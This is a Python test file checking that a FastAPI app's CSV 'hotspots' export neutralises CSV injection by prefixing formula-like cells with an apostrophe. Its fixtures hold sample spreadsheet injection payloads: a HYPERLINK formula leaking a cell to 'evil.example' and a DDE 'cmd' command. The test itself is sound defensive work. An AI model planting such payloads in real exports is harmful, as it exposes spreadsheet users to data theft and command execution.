"""A CSV export is opened in a spreadsheet: no cell may start a formula there."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from builders import make_user, sign_in
from insights.insight_builders import WINDOW_DAYS, add_conversations
from poise.insights.rollup import count_all

PERIOD = "start=2026-10-20&end=2026-11-16"
HOSTILE = {
    "product": '=HYPERLINK("http://evil.example/?leak="&A1,"Refund policy")',
    "feature": "+cmd|' /C calc'!A0",
    "tag": "@SUM(1+1)",
}


def test_an_imported_value_that_reads_as_a_formula_is_exported_as_text(
    client: TestClient, session: Session
) -> None:
    """A product, feature or tag comes from the helpdesk, where a customer's form may set it:
    "=HYPERLINK(...)" went into hotspots.csv as it stood, and the lead's spreadsheet ran it
    (CSV injection). Each such cell now starts with an apostrophe, as OWASP advises, so the
    spreadsheet shows the text; numbers, negative ones too, stay numbers."""
    lead = make_user(session, role="lead", team="A")
    agent = make_user(session, team="A")
    opened = datetime(2026, 11, 3, 9, tzinfo=UTC)
    add_conversations(
        session,
        n=30,
        opened=opened,
        unhappy=9,
        assignee_id=agent.id,
        product=HOSTILE["product"],
        feature=HOSTILE["feature"],
        tags=[HOSTILE["tag"]],
    )
    add_conversations(session, n=30, opened=opened, unhappy=1, assignee_id=agent.id)
    count_all(session, window_days=WINDOW_DAYS)
    sign_in(client, lead)
    answer = client.get(f"/insights/export/hotspots.csv?{PERIOD}")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-", "\t", "\r")]
    values = {(row["kind"], row["value"]) for row in rows}
    assert {(kind, "'" + value) for kind, value in HOSTILE.items()} <= values
    assert {row["product"] for row in rows if row["kind"] == "feature"} == {
        "'" + HOSTILE["product"]
    }
    assert all(float(row["conversations"]) > 0 for row in rows), "numbers stay numbers"
